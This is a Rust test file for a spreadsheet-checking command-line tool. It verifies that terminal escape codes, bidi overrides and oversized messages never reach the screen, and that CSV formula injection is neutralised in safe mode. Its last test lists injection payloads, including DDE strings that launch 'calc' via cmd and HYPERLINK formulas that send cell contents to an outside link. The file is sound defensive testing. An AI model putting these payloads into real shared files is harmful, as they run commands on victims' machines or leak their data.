//! What people see on a terminal and in a spreadsheet that opens a table of ours: nothing that a file holds moves the
//! cursor, turns the direction of letters, runs as a formula, or fills the screen.

use std::fmt::Write as _;
use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use crate::support::files;
use tempfile::TempDir;

/// What a run gave: the exit code, its results, and what it said beside them.
fn run(folder: &TempDir, args: &[&str]) -> (i32, String, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_tonghop"))
        .current_dir(folder.path())
        .args(args)
        .env("TONGHOP_LANG", "en")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let text = |bytes| String::from_utf8(bytes).unwrap();
    (
        output.status.code().unwrap(),
        text(output.stdout),
        text(output.stderr),
    )
}

fn put(folder: &TempDir, path: &str, bytes: impl AsRef<[u8]>) {
    let path = folder.path().join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, bytes).unwrap();
}

/// A letter that does something, in any text that a file holds.
const ODD: &str = "\u{9b}2J\u{85}\u{202e}\u{2067}\u{7f}";

/// Whether a text does nothing but end lines, and begins none with words of a file.
fn is_plain(text: &str) -> bool {
    let odd = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    !text.contains(odd) && !text.lines().any(|line| line.trim().starts_with("LINE"))
}

/// A form whose every text holds odd letters and line ends.
fn odd_form(office: &str) -> Vec<u8> {
    let odd = |text: &str| format!("{text}{ODD}\nLINE OF A FILE");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("Danh mục\u{9b}\u{202e}\u{85}").unwrap();
    sheet
        .write(0, 0, format!("SỞ {office} TỈNH TRÀ VINH"))
        .unwrap();
    sheet.write(1, 0, "Đơn vị tính: triệu đồng").unwrap();
    let headings = [
        "STT",
        "Nội dung hoạt động",
        "Đơn vị hỗ trợ",
        "Thời gian thực hiện",
        "Kinh phí hỗ trợ",
    ];
    for (col, heading) in (0..).zip(headings) {
        sheet.write(2, col, heading).unwrap();
    }
    sheet.write(2, 5, odd("Cột lạ")).unwrap();
    for (row, amount) in (3..).zip(["chưa có", "1-2 tỷ đồng", "60 triệu đồng/căn", "=1+1"])
    {
        sheet.write(row, 0, row - 2).unwrap();
        sheet.write_string(row, 1, odd("=Xây nhà")).unwrap();
        sheet.write_string(row, 2, odd("Sở")).unwrap();
        sheet.write_string(row, 3, odd("31/02/2012")).unwrap();
        sheet.write_string(row, 4, odd(amount)).unwrap();
        sheet.write_string(row, 5, odd("x")).unwrap();
    }
    let other = book.add_worksheet();
    other.set_name("Khác\u{9b}").unwrap();
    other.write_string(0, 0, odd("STT")).unwrap();
    other.write_string(0, 1, odd("Số tiền")).unwrap();
    other.write_string(0, 2, odd("Tên")).unwrap();
    for row in 1..6 {
        other.write(row, 0, row).unwrap();
        other.write(row, 1, row * 7).unwrap();
        other.write_string(row, 2, odd("a")).unwrap();
    }
    book.save_to_buffer().unwrap()
}

#[cfg(unix)]
#[test]
fn nothing_of_a_file_does_anything_to_a_terminal() {
    let folder = tempfile::tempdir().unwrap();
    let name = "so\u{1b}[2J\u{9b}\u{202e}\nLINE";
    put(&folder, &format!("in/{name}.xlsx"), odd_form("Y TẾ"));
    put(
        &folder,
        &format!("in/{name}/{name}.xlsx"),
        odd_form("XÂY DỰNG"),
    );
    put(&folder, &format!("in/{name}2.xlsx"), b"PK\x03\x04");
    put(&folder, &format!("in/{name}.docx"), b"x");
    put(&folder, &format!("in/{name}.csv"), b"\x89PNG\r\n\x1a\n");
    let project = format!("{name}.toml");
    put(
        &folder,
        &project,
        format!(
            "[programme]\nid = \"a\"\nname = \"b\"\n\"khoa{ODD}\" = 1\n[lists]\nunits = \"khong{ODD}.csv\"\n"
        ),
    );
    let file = format!("in/{name}.xlsx");
    let broken = format!("in/{name}2.xlsx");
    let gone = format!("in/{name}3.xlsx");
    let out = format!("{name}/ra");
    let mut all = String::new();
    for args in [
        &["check", "in"][..],
        &["check", "in", "--all"],
        &["check", "in", "--return", &out],
        &["status", "in"],
        &["merge", "in", "-o", &format!("{name}.xlsx")],
        &["merge", "in", "-o", &format!("{name}.csv")],
        &["convert", "in", "-o", &out],
        &["convert", "in", "-o", &format!("{name}4/a.csv")],
        &["inspect", &file],
        &["inspect", &broken],
        &["inspect", &gone],
        &["inspect", "in"],
        &["check", &gone],
        &["check", "in", "--project", &project],
        &["check", "in", &format!("--{name}")],
        &["decide", "in", "--count", name],
        &["explain", name],
        &[name],
        &["template", "-o", &format!("{name}5"), "--template", name],
    ] {
        let (_, results, said) = run(&folder, args);
        assert!(!results.is_empty() || !said.is_empty(), "{args:?}");
        assert!(is_plain(&said), "{args:?}: {said:?}");
        assert!(is_plain(&results), "{args:?}: {results:?}");
        all += &results;
        all += &said;
    }
    // They are told, though.
    assert!(all.contains("[U+202E]") && all.contains("LINE OF A FILE"));
}

#[test]
fn no_message_fills_the_screen() {
    let folder = tempfile::tempdir().unwrap();
    let sheets: Vec<(String, &str)> = (0..400)
        .map(|number| (format!("Trang tính rất dài số {number}"), "1 | a | b"))
        .collect();
    let sheets: Vec<(&str, &str)> = sheets
        .iter()
        .map(|(name, rows)| (name.as_str(), *rows))
        .collect();
    put(&folder, "in/nhieu-trang.xlsx", files::text_sheet(&sheets));
    let long = "x".repeat(30_000);
    let mut table = format!(
        "SỞ Y TẾ,\nĐơn vị tính: triệu đồng\nSTT,Nội dung hoạt động,Đơn vị hỗ trợ,Thời gian thực hiện,Kinh phí hỗ trợ,{long}\n"
    );
    for row in 1..4 {
        writeln!(table, "{row},={long},{long},{long},{long},{long}").unwrap();
    }
    put(&folder, "in/dai.csv", &table);
    let (code, results, _) = run(&folder, &["check", "in", "--format", "json"]);
    assert_eq!(code, 1);
    for line in results.lines() {
        let line: serde_json::Value = serde_json::from_str(line).unwrap();
        for key in ["message", "suggestion"] {
            let told = line[key].as_str().unwrap_or_default();
            assert!(told.chars().count() <= 1501, "{}: {told}", line["code"]);
        }
    }
    let (_, text, _) = run(&folder, &["check", "in", "--all"]);
    assert!(text.len() < 20_000, "{}", text.len());
    assert!(text.contains("and 381 more"), "{text}");
    let (_, text, _) = run(&folder, &["inspect", "in/dai.csv"]);
    assert!(text.len() < 10_000, "{}", text.len());
    // A project file of keys that nobody knows, and lists of lines that are wrong.
    let keys: String = (0..50_000).fold(String::new(), |mut keys, number| {
        writeln!(keys, "key-{number} = \"{}\"", &long[..100]).unwrap();
        keys
    });
    let head = "[programme]\nid = \"a\"\nname = \"b\"\n[period]\nid = \"c\"\nstart = 2020-01-01\nend = 2020-06-30\n";
    put(&folder, "khoa.toml", format!("{keys}{head}"));
    put(&folder, "dai.toml", format!("{long} = 1\n{head}"));
    put(
        &folder,
        "gia-tri.toml",
        format!("{head}[rules]\nV102 = \"{long}\"\n"),
    );
    put(&folder, "hong.toml", format!("{long} {long}\n"));
    put(
        &folder,
        "ds.toml",
        format!("{head}[lists]\nunits = \"units.csv\"\n"),
    );
    let units: String = (0..50_000).map(|_| "a,b\n").collect();
    put(&folder, "units.csv", format!("code,name\n{units}"));
    for project in [
        "khoa.toml",
        "dai.toml",
        "gia-tri.toml",
        "hong.toml",
        "ds.toml",
    ] {
        let (code, _, said) = run(&folder, &["check", "in", "--project", project]);
        assert_eq!(code, 2, "{project}");
        assert!(said.len() < 8000, "{project}: {}", said.len());
        assert!(said.contains(project) || project == "ds.toml", "{said}");
    }
    let (_, _, said) = run(&folder, &["check", "in", "--project", "khoa.toml"]);
    assert!(said.contains("and 49,980 more"), "{said}");
}

#[test]
fn findings_and_offices_as_tables_run_nothing_when_they_are_to_be_safe() {
    let folder = tempfile::tempdir().unwrap();
    let payloads = [
        "=1+1",
        "@SUM(A1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://a?\"&A1,\"Bấm\")",
        "+HYPERLINK(\"http://a?\"&A1,\"Bấm\")",
        "\t=1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "＝1+1",
    ];
    let mut table = "SỞ Y TẾ,\nĐơn vị tính: triệu đồng\nSTT,Nội dung hoạt động,Đơn vị hỗ trợ,Thời gian thực hiện,Kinh phí hỗ trợ\n".to_owned();
    for (row, payload) in (1..).zip(payloads) {
        let quoted = payload.replace('"', "\"\"");
        writeln!(
            table,
            "{row},\"{quoted}\",\"{quoted}\",\"{quoted}\",\"{quoted}\""
        )
        .unwrap();
    }
    let name = if cfg!(unix) {
        "in/=1+1|a.csv"
    } else {
        "in/=1+1a.csv"
    };
    put(&folder, name, &table);
    let runs = |text: &str| tonghop::value::shown::runs_as_formula(text);
    for (args, header) in [
        (&["check", "in", "--format", "csv"][..], "code,"),
        (&["status", "in", "--format", "csv"], "unit_code,"),
        (&["convert", "in", "-o", "-"], "record_id,"),
    ] {
        let raw = run(&folder, args).1;
        let safe = run(&folder, &[args, &["--safe"]].concat()).1;
        assert!(raw.starts_with(header) && safe.starts_with(header));
        let fields = |text: &str| -> Vec<String> {
            let mut table = csv::ReaderBuilder::new();
            let mut table = table.has_headers(false).from_reader(text.as_bytes());
            let records = table.records().map(Result::unwrap);
            records
                .flat_map(|record| record.iter().map(str::to_owned).collect::<Vec<_>>())
                .collect()
        };
        let (raw, safe) = (fields(&raw), fields(&safe));
        assert_eq!(raw.len(), safe.len());
        assert!(raw.iter().any(|field| runs(field)), "{args:?}");
        for (raw, safe) in raw.iter().zip(&safe) {
            let expected = if runs(raw) {
                format!("'{raw}")
            } else {
                raw.clone()
            };
            assert_eq!(*safe, expected);
            assert!(!runs(safe));
        }
    }
    assert!(!Path::new("=1+1").exists());
}
